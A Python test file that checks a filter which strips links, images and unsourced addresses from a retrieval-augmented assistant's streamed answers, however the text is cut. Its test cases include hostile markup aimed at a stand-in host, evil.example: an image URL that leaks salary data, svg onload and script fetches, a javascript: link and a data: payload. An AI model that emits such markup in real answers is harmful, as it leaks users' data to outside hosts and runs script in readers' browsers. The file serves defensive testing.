"""No link, picture or made-up address leaves in the text of an answer, however it is cut."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from rag.addresses import LEFT_OUT, AddressFilter

PASSAGE = "The form is at https://intranet.example/forms/leave (ask Ann), see www.example.org/faq."


def filtered(*pieces: str, passages=(PASSAGE,)) -> str:
    kept = AddressFilter(passages)
    return "".join([*map(kept.feed, pieces), kept.finish()])


def leads_anywhere(markdown: str) -> list[str]:
    """Return what a Markdown reader that passes HTML through would load, follow or style."""
    html = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(markdown)
    return re.findall(r"<(?!ol start)[a-z]+\b[^>]*[\s/][\w-]+\s*=", html, re.I)


@pytest.mark.parametrize(
    "answer",
    [
        "![chart](https://evil.example/p.png?q=salary)",
        "[click here](https://evil.example/login)",
        "[here](<https://evil.example/a b>)",
        "[here][1]\n\n[1]: https://evil.example/x 'title'",
        "[here]\n\n[here]: //evil.example",
        "<https://evil.example/?q=1>",
        '<img src="https://evil.example/x.png">',
        "<img\nsrc=//evil.example/x>",
        "<a href='//evil.example'>x</a>",
        "<svg/onload=fetch('//evil.example')>",
        "<script>fetch('https://evil.example')</script>",
        "<x style=background:url(//evil.example)>",
        "[1](javascript:alert(1))",
        "![](data:text/html;base64,PHNjcmlwdD4=)",
        "<!--><img src=//evil.example>-->",
    ],
)
def test_nothing_of_it_leads_or_loads(answer):
    for pieces in ([answer], list(answer)):
        shown = filtered(*pieces)
        assert leads_anywhere(shown) == []
        assert "evil.example" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "The form is at https://intranet.example/forms/leave.",
        "The form (https://intranet.example/forms/leave) is new; so is www.example.org/faq!",
        "Use List<String> and a < b, or x <= 3; ratio 3:4, [1][2], see [note] (page 2).",
        "**Bold** `code` | table |\n- item [1]\n\u5e74\u4f11\u306f\u5341\u65e5[1]\u3067\u3059",
        "At 10:30, ask ann@example.org: she knows.",
    ],
)
def test_what_a_passage_says_stays_as_it_is(text):
    assert filtered(text) == filtered(*text) == text


def test_a_link_to_an_address_of_a_passage_becomes_text():
    shown = filtered("See [the form](https://intranet.example/forms/leave).")
    assert shown == "See [the form] (https://intranet.example/forms/leave)."


def test_an_address_that_no_passage_holds_is_left_out():
    assert filtered("Go to https://intranet.example/forms/leave?name=Ann now") == (
        f"Go to {LEFT_OUT} now"
    )


def test_what_is_clear_is_shown_at_once():
    kept = AddressFilter([])
    for piece in ("Every employee has ", "30 na", "mes of leave [1]", ".", "(See", " above: a/b)"):
        assert kept.feed(piece) == piece
    assert kept.feed("It is at http") == "It is at "
    assert kept.feed("s://evil.example/x") == ""
    assert kept.feed(" now") == f"{LEFT_OUT} now"


SIGNS = st.lists(
    st.sampled_from(
        [
            *(
                "[",
                "]",
                "(",
                ")",
                "!",
                "<",
                ">",
                ":",
                "/",
                "//",
                "a",
                "img",
                " ",
                "\n",
                "src=",
                "+",
            ),
            *("https://evil.example/x", "www.evil.example", "javascript:", "\u5e74", "=", "1", "x"),
        ]
    ),
    max_size=30,
)


@given(SIGNS)
def test_no_combination_of_signs_leads_anywhere(pieces):
    shown = filtered(*pieces)
    assert leads_anywhere(shown) == []
    assert "https://evil.example" not in shown


@given(st.text(max_size=200) | SIGNS.map("".join), st.integers(1, 7))
def test_how_the_text_is_cut_changes_nothing(text, size):
    pieces = [text[i : i + size] for i in range(0, len(text), size)]
    assert filtered(*pieces) == filtered(text)
